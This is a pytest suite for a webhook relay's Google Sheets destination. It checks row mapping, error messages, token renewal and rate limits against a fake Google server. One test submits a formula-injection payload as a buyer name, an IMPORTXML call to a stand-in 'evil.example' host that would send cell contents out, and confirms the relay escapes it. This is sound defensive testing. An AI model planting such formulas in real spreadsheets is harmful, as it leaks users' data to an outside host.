"""``type: google_sheets`` end to end: Tito webhooks through real recipes and the real
relay into a fake Google (tests/fakes/google.py) that verifies the signed JWT, the
bearer token and the shape of every request, and holds the spreadsheets' rows.

What is asserted is what the fake holds afterwards, and what relay recorded.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from cryptography.hazmat.primitives.asymmetric import rsa

from conftest import ROOT, RelayServer, free_port, sample, sign, wait_until, write_recipe, write_sources
from fakes.google import GOOGLE_TOKEN_URL, FakeGoogle, service_account_key
from relay.cli import cli
from relay.destinations import DestinationContext, OptionError, Pacers
from relay.destinations.google_sheets import GoogleSheetsDestination
from relay.settings import Settings

SAMPLE = json.loads(sample("tito/ticket.completed.json"))
SHIPPED = ROOT / "recipes" / "tito-to-google-sheets.yaml"
PLACEHOLDER = "https://docs.google.com/spreadsheets/d/YOUR-SPREADSHEET-ID/edit"
FIELDS = ["reference", "email", "name", "ticket", "price", "event", "tshirt"]
SHEET_ID = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms"


@pytest.fixture
def google() -> Iterator[FakeGoogle]:
    fake = FakeGoogle()
    yield fake
    fake.close()


def account(google: FakeGoogle, token_uri: str | None = None) -> dict[str, Any]:
    """A new service account whose public key the fake knows."""
    info, key = service_account_key(token_uri or google.token_url)
    google.register(info, key.public_key())
    return info


def shipped_recipe(folder: Path, spreadsheet: str, sheet: str = "Sheet1", name: str = "tickets") -> None:
    """The shipped example recipe, pointed at a spreadsheet of the fake."""
    text = SHIPPED.read_text()
    assert PLACEHOLDER in text and "sheet: Sheet1" in text
    write_sources(folder)
    write_recipe(folder, name, text.replace(PLACEHOLDER, spreadsheet).replace("sheet: Sheet1", f"sheet: {sheet}"))


def recipe(folder: Path, name: str, spreadsheet: str, sheet: str, secret: str = "GOOGLE_SERVICE_ACCOUNT") -> None:
    write_sources(folder)
    write_recipe(folder, name, f"""\
source: tito
events: ["ticket.completed"]
fields:
  reference: reference
  email: email
  name: "{{{{ first_name }}}} {{{{ last_name }}}}"
to:
  - type: google_sheets
    key: ${{{secret}}}
    spreadsheet: {spreadsheet}
    sheet: {sheet}
""")


def ticket(n: int, **changes: Any) -> bytes:
    return json.dumps(dict(SAMPLE, slug=f"tkt-{n}", reference=f"REF-{n}",
                           email=f"buyer{n}@example.com", **changes)).encode()


def expected(n: int, **changes: Any) -> dict[str, Any]:
    """The recipe's fields for ticket(n), as the sheet holds them."""
    return {"reference": f"REF-{n}", "email": f"buyer{n}@example.com",
            "name": f"{changes.get('first_name', 'Peter')} Winter", "ticket": "AwesomeConf ticket",
            "price": "1.00", "event": SAMPLE["event"]["title"], "tshirt": "Women's S"}


def post(relay: RelayServer, body: bytes) -> int:
    path, headers = sign("tito", "tito", body)
    headers["X-Webhook-Name"] = "ticket.completed"
    response = relay.post(path, body, headers)
    assert response.status_code == 200, response.text
    assert response.json()["status"] == "accepted", response.text
    return int(response.json()["event"])


def deliveries(relay: RelayServer, status: str | None = None) -> list[dict[str, Any]]:
    rows = relay.rows("SELECT * FROM deliveries ORDER BY id")
    return [r for r in rows if status is None or r["status"] == status]


def settled(relay: RelayServer, count: int, status: str, timeout: float = 20) -> list[dict[str, Any]]:
    """Wait until ``count`` deliveries have ``status``; returns them."""
    return wait_until(lambda: (found := deliveries(relay, status)) and len(found) >= count and found,  # type: ignore[no-any-return]
                      timeout=timeout)



@pytest.fixture
def start(make_relay: Callable[..., RelayServer], google: FakeGoogle,
          monkeypatch: pytest.MonkeyPatch) -> Callable[..., RelayServer]:
    """Start relay against the fake, with ``info`` as the secret GOOGLE_SERVICE_ACCOUNT."""
    def run(info: dict[str, Any], **settings: Any) -> RelayServer:
        monkeypatch.setenv("GOOGLE_SERVICE_ACCOUNT", json.dumps(info))
        return make_relay(**{"google_sheets_url": google.url, **settings})
    return run


# --- rows where they belong -----------------------------------------------------


def test_rows_land_under_their_column_names(start: Callable[..., RelayServer], google: FakeGoogle,
                                            tmp_path: Path) -> None:
    info = account(google)
    header = ["Checked in", "email", "name", "reference", "Notes", "event", "ticket", "tshirt", "price"]
    google.create(SHEET_ID, {"Sheet1": [header]}, editors=[info["client_email"]])
    shipped_recipe(tmp_path / "recipes", f"https://docs.google.com/spreadsheets/d/{SHEET_ID}/edit#gid=0")
    relay = start(info)

    post(relay, ticket(1))
    settled(relay, 1, "delivered")  # one at a time: two rows, not one batch
    post(relay, ticket(2))
    done = settled(relay, 2, "delivered")

    rows = google.rows(SHEET_ID, "Sheet1")
    assert rows[0] == header  # untouched
    assert rows[1:] == [[expected(n).get(column, "") for column in header] for n in (1, 2)]
    assert rows[1][0] == "" and rows[1][4] == ""  # the columns the recipe does not map
    # the header row is read with the tab name quoted for A1 notation, URL-encoded
    [read] = google.sheets_requests("read")
    assert read.path == f"/v4/spreadsheets/{SHEET_ID}/values/%27Sheet1%27%211%3A1"
    appends = google.sheets_requests("append")
    assert len(appends) == 2
    assert appends[0].query == {"valueInputOption": ["USER_ENTERED"], "insertDataOption": ["INSERT_ROWS"]}
    assert google.token_requests == 1  # one token for both
    assert all(d["last_status_code"] == 200 and d["attempts"] == 1 for d in done)
    [attempt] = relay.attempts(done[1]["id"])
    assert json.loads(attempt["response_body"])["updates"]["updatedRange"] == "'Sheet1'!A3:I3"


def test_an_empty_tab_gets_the_header_row_first(start: Callable[..., RelayServer], google: FakeGoogle,
                                                tmp_path: Path) -> None:
    # The token URL setting wins over the key's token_uri (nothing listens there).
    info = account(google, token_uri=f"http://127.0.0.1:{free_port()}/token")
    google.create(SHEET_ID, {"Sheet1": [["other tab"]], "Tickets 2025": []}, editors=[info["client_email"]])
    shipped_recipe(tmp_path / "recipes", SHEET_ID, sheet="Tickets 2025")
    relay = start(info, google_token_url=google.token_url)

    post(relay, ticket(1))
    settled(relay, 1, "delivered")
    # a buyer's name that would be a formula is written as text (the ' is not shown)
    post(relay, ticket(2, first_name='=IMPORTXML("http://evil.example/"&A2, "//a")'))
    settled(relay, 2, "delivered")

    rows = google.rows(SHEET_ID, "Tickets 2025")
    assert rows[0] == FIELDS
    assert rows[1] == [expected(1)[f] for f in FIELDS]
    assert rows[2][FIELDS.index("name")] == '\'=IMPORTXML("http://evil.example/"&A2, "//a") Winter'
    assert len(rows) == 3  # one header row only
    first, second = google.sheets_requests("append")
    assert first.json() == {"majorDimension": "ROWS", "values": [FIELDS, rows[1]]}  # header and row at once
    assert second.path == f"/v4/spreadsheets/{SHEET_ID}/values/%27Tickets%202025%27%21A1:append"
    assert len(google.sheets_requests("read")) == 1  # the header written is remembered
    assert google.rows(SHEET_ID, "Sheet1") == [["other tab"]]


def test_a_field_without_a_column_is_dead_until_the_column_exists(
        start: Callable[..., RelayServer], google: FakeGoogle, tmp_path: Path) -> None:
    info = account(google)
    header = ["reference", "email", "name", "ticket", "price", "event"]  # no tshirt
    google.create(SHEET_ID, {"Sheet1": [header]}, editors=[info["client_email"]])
    shipped_recipe(tmp_path / "recipes", SHEET_ID)
    relay = start(info)

    post(relay, ticket(1))
    [dead] = settled(relay, 1, "dead")
    assert dead["attempts"] == 1
    assert "no column 'tshirt'" in dead["last_error"]
    assert "'reference', 'email', 'name', 'ticket', 'price', 'event'" in dead["last_error"]
    assert google.sheets_requests("append") == []
    assert google.rows(SHEET_ID, "Sheet1") == [header]

    # The organiser adds the column by hand and replays: the remembered header row
    # is read again before the field is declared missing.
    google.spreadsheets[SHEET_ID]["Sheet1"][0].append("tshirt")
    result = CliRunner().invoke(cli, ["replay", str(dead["id"]), "--db", str(relay.settings.db)])
    assert result.exit_code == 0, result.output
    settled(relay, 1, "delivered")
    assert google.rows(SHEET_ID, "Sheet1")[1] == [expected(1)[c] for c in header + ["tshirt"]]
    assert len(google.sheets_requests("read")) == 2


# --- Google's refusals --------------------------------------------------------------


def test_a_sheet_not_shared_is_dead_and_names_the_service_account(
        start: Callable[..., RelayServer], google: FakeGoogle, tmp_path: Path) -> None:
    info = account(google)
    google.create(SHEET_ID, {"Sheet1": [FIELDS]}, editors=["someone-else@example.com"])
    shipped_recipe(tmp_path / "recipes", SHEET_ID)
    relay = start(info)

    post(relay, ticket(1))
    [dead] = settled(relay, 1, "dead")
    assert dead["attempts"] == 1 and dead["last_status_code"] == 403
    error = dead["last_error"]
    assert f"share the spreadsheet with {info['client_email']} (as Editor)" in error
    assert "The caller does not have permission" in error  # Google's own words
    [attempt] = relay.attempts(dead["id"])
    assert attempt["outcome"] == "dead"
    assert json.loads(attempt["response_body"])["error"]["status"] == "PERMISSION_DENIED"


def test_unknown_spreadsheet_or_tab_is_dead_with_what_to_check(
        start: Callable[..., RelayServer], google: FakeGoogle, tmp_path: Path) -> None:
    info = account(google)
    google.create(SHEET_ID, {"Sheet1": [FIELDS]}, editors=[info["client_email"]])
    folder = tmp_path / "recipes"
    recipe(folder, "no-spreadsheet", "1NoSuchSpreadsheet", "Sheet1")
    recipe(folder, "no-tab", SHEET_ID, "Tickets")
    relay = start(info)

    post(relay, ticket(1))
    dead = {d["recipe"]: d for d in settled(relay, 2, "dead")}
    assert dead["no-spreadsheet"]["last_status_code"] == 404
    assert "spreadsheet or sheet not found: check the id and the tab name" in dead["no-spreadsheet"]["last_error"]
    assert "Requested entity was not found." in dead["no-spreadsheet"]["last_error"]
    assert dead["no-tab"]["last_status_code"] == 400
    assert "has no tab named 'Tickets'" in dead["no-tab"]["last_error"]
    assert "Unable to parse range: 'Tickets'!1:1" in dead["no-tab"]["last_error"]
    assert all(d["attempts"] == 1 for d in dead.values())


def test_429_waits_a_full_minute(start: Callable[..., RelayServer], google: FakeGoogle,
                                 tmp_path: Path) -> None:
    info = account(google)
    google.create(SHEET_ID, {"Sheet1": [FIELDS]}, editors=[info["client_email"]])
    shipped_recipe(tmp_path / "recipes", SHEET_ID)
    google.exhaust(1)
    relay = start(info)

    post(relay, ticket(1))
    [delivery] = wait_until(lambda: [d for d in deliveries(relay) if d["attempts"] == 1])
    [attempt] = relay.attempts(delivery["id"])
    assert (attempt["outcome"], attempt["status_code"]) == ("retry", 429)
    assert delivery["status"] == "pending"
    assert delivery["next_attempt_at"] - attempt["started_at"] >= 60  # Google sends no Retry-After
    assert "relay waits a minute" in delivery["last_error"]
    assert "Quota exceeded" in delivery["last_error"]
    assert google.rows(SHEET_ID, "Sheet1") == [FIELDS]


# --- the access token -----------------------------------------------------------------


def test_an_expired_token_is_renewed_once(start: Callable[..., RelayServer], google: FakeGoogle,
                                          tmp_path: Path) -> None:
    info = account(google)
    google.create(SHEET_ID, {"Sheet1": [FIELDS]}, editors=[info["client_email"]])
    shipped_recipe(tmp_path / "recipes", SHEET_ID)
    relay = start(info)

    post(relay, ticket(1))
    settled(relay, 1, "delivered")
    google.expire_tokens()  # revoked early: the next Sheets call gets 401
    post(relay, ticket(2))
    done = settled(relay, 2, "delivered")

    assert google.token_requests == 2
    assert [r[0] for r in google.rows(SHEET_ID, "Sheet1")[1:]] == ["REF-1", "REF-2"]
    assert len(google.sheets_requests("append")) == 3  # refused once, then sent again
    assert [d["attempts"] for d in done] == [1, 1]  # within one attempt


def test_a_key_google_does_not_know_is_dead_in_plain_words(
        start: Callable[..., RelayServer], google: FakeGoogle, tmp_path: Path) -> None:
    info, _ = service_account_key(google.token_url)
    other = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    google.register(info, other.public_key())  # the key was replaced: signatures do not match
    google.create(SHEET_ID, {"Sheet1": [FIELDS]}, editors=[info["client_email"]])
    shipped_recipe(tmp_path / "recipes", SHEET_ID)
    relay = start(info)

    post(relay, ticket(1))
    [dead] = settled(relay, 1, "dead")
    assert dead["attempts"] == 1 and dead["last_status_code"] == 400
    assert google.token_refusals == ["Invalid JWT Signature."]
    assert "the key was revoked or deleted" in dead["last_error"]
    assert info["client_email"] in dead["last_error"]
    assert "Invalid JWT Signature." in dead["last_error"]
    assert google.sheets_requests() == []


def test_recipes_sharing_a_key_share_its_token(start: Callable[..., RelayServer], google: FakeGoogle,
                                               tmp_path: Path) -> None:
    info = account(google)
    google.create(SHEET_ID, {"A": [], "B": []}, editors=[info["client_email"]])
    folder = tmp_path / "recipes"
    recipe(folder, "to-a", SHEET_ID, "A")
    recipe(folder, "to-b", SHEET_ID, "B")
    relay = start(info)

    post(relay, ticket(1))
    settled(relay, 2, "delivered")
    assert google.token_requests == 1  # two lanes at once, one token
    for tab in ("A", "B"):
        assert google.rows(SHEET_ID, tab) == [["reference", "email", "name"],
                                             ["REF-1", "buyer1@example.com", "Peter Winter"]]


# --- under load -----------------------------------------------------------------------


def test_a_burst_goes_in_few_appends_in_arrival_order(start: Callable[..., RelayServer],
                                                      google: FakeGoogle, tmp_path: Path) -> None:
    info = account(google)
    google.create(SHEET_ID, {"Sheet1": [FIELDS]}, editors=[info["client_email"]])
    shipped_recipe(tmp_path / "recipes", SHEET_ID)
    google.rate_limit(60, 60)  # Google's per-minute quota: relay's pacer keeps under it
    google.hold_appends = threading.Event()
    relay = start(info, delivery_timeout=60.0)

    post(relay, ticket(0))
    wait_until(lambda: google.appends_held == 1)  # the first append is on its way, held
    for n in range(1, 30):
        post(relay, ticket(n))
    wait_until(lambda: len(deliveries(relay)) == 30)
    google.hold_appends.set()
    settled(relay, 30, "delivered")

    rows = google.rows(SHEET_ID, "Sheet1")
    assert [r[0] for r in rows[1:]] == [f"REF-{n}" for n in range(30)]  # every row, in order
    appends = google.sheets_requests("append")
    assert len(appends) < 30
    assert [len(a.json()["values"]) for a in appends] == [1, 29]
    assert google.over_limit == 0


# --- configuration and preview ----------------------------------------------------------


def build(config: dict[str, Any], tmp_path: Path, **settings: Any) -> GoogleSheetsDestination:
    context = DestinationContext(tmp_path, Settings(**settings), Pacers())
    return GoogleSheetsDestination({"type": "google_sheets", **config}, context)


def option_error(config: dict[str, Any], tmp_path: Path) -> OptionError:
    with pytest.raises(OptionError) as caught:
        build(config, tmp_path)
    return caught.value


def test_options(tmp_path: Path) -> None:
    info, _ = service_account_key("https://oauth2.googleapis.com/token")
    key = json.dumps(info)
    dest = build({"key": key, "spreadsheet": f"https://docs.google.com/spreadsheets/d/{SHEET_ID}/edit#gid=0"},
                 tmp_path)
    assert dest.spreadsheet == SHEET_ID and dest.sheet == "Sheet1"
    assert dest.token_url == GOOGLE_TOKEN_URL
    assert dest.pacer is not None and (dest.pacer.limit, dest.pacer.per) == (60, 60.0)
    assert (dest.batch_size, dest.max_in_flight) == (100, 1)
    dest = build({"key": info, "spreadsheet": SHEET_ID, "sheet": "Bob's tab",
                  "rate_limit": {"requests": 300, "per": 60}}, tmp_path,
                 google_sheets_url="http://127.0.0.1:9/", google_token_url="http://127.0.0.1:9/token")
    assert dest.header_url == f"http://127.0.0.1:9/v4/spreadsheets/{SHEET_ID}/values/%27Bob%27%27s%20tab%27%211%3A1"
    assert dest.token_url == "http://127.0.0.1:9/token"
    assert dest.pacer is not None and dest.pacer.limit == 300

    error = option_error({"key": "not json at all " + info["private_key"], "spreadsheet": SHEET_ID}, tmp_path)
    assert error.key == "key" and "not JSON" in error.message and "PRIVATE KEY" not in error.message
    error = option_error({"key": json.dumps({"installed": {"client_id": "x"}}), "spreadsheet": SHEET_ID},
                         tmp_path)
    assert error.key == "key" and "not a service-account key file" in error.message
    assert "client_email, private_key, private_key_id, token_uri" in error.message
    error = option_error({"key": json.dumps({"type": "authorized_user"}), "spreadsheet": SHEET_ID}, tmp_path)
    assert "authorized_user key file, not a service account's" in error.message
    error = option_error({"key": json.dumps(dict(info, private_key="-----BEGIN nonsense")),
                          "spreadsheet": SHEET_ID}, tmp_path)
    assert error.key == "key" and "cannot be read as an RSA private key" in error.message
    for bad in ("https://example.com/sheet", "https://docs.google.com/spreadsheets/d/e/2PACX-1vQ/pubhtml",
                "not an id!"):
        error = option_error({"key": key, "spreadsheet": bad}, tmp_path)
        assert error.key == "spreadsheet", bad
    error = option_error({"key": key, "spreadsheet": SHEET_ID, "rate_limit": 60}, tmp_path)
    assert error.key == "rate_limit"
    error = option_error({"key": key, "spreadsheet": SHEET_ID, "range": "A1"}, tmp_path)
    assert error.key == "range"
    error = option_error({"spreadsheet": SHEET_ID}, tmp_path)
    assert "needs `key:`" in error.message


def test_check_and_try_the_shipped_recipe(tmp_path: Path) -> None:
    info, _ = service_account_key(GOOGLE_TOKEN_URL)
    folder = tmp_path / "recipes"
    write_sources(folder)
    write_recipe(folder, "tito-to-google-sheets", SHIPPED.read_text())
    env = {"GOOGLE_SERVICE_ACCOUNT": json.dumps(info), "RELAY_DB": str(tmp_path / "no.db"),
           "RELAY_DATA": str(tmp_path / "data")}
    result = CliRunner().invoke(cli, ["check", str(folder)], env=env)
    assert result.exit_code == 0, result.output

    payload = ROOT / "tests" / "samples" / "tito" / "ticket.completed.json"
    result = CliRunner().invoke(cli, ["try", str(folder / "tito-to-google-sheets.yaml"), str(payload),
                                      "--type", "ticket.completed"], env=env)
    assert result.exit_code == 0, result.output
    shown = json.loads(result.output.split("--- destination 1: google_sheets\n", 1)[1])
    assert shown["method"] == "POST"
    assert shown["url"] == ("https://sheets.googleapis.com/v4/spreadsheets/YOUR-SPREADSHEET-ID/values/"
                            "%27Sheet1%27%21A1:append?valueInputOption=USER_ENTERED&insertDataOption=INSERT_ROWS")
    assert shown["headers"]["Authorization"] == "Bearer [secret]"
    assert shown["service_account"] == info["client_email"]  # whom to share the sheet with
    assert shown["columns"] == FIELDS
    assert shown["body"] == {"majorDimension": "ROWS", "values": [[
        "1i5nfwf2t", "winter@example.com", "Peter Winter", "AwesomeConf ticket", "1.00",
        SAMPLE["event"]["title"], "Women's S"]]}
    assert "PRIVATE KEY" not in result.output and info["private_key_id"] not in result.output

    # without the secret the recipe is off, and check says which secret to set
    result = CliRunner().invoke(cli, ["check", str(folder)], env={**env, "GOOGLE_SERVICE_ACCOUNT": None})
    assert result.exit_code == 1
    assert "relay secret set GOOGLE_SERVICE_ACCOUNT" in result.output
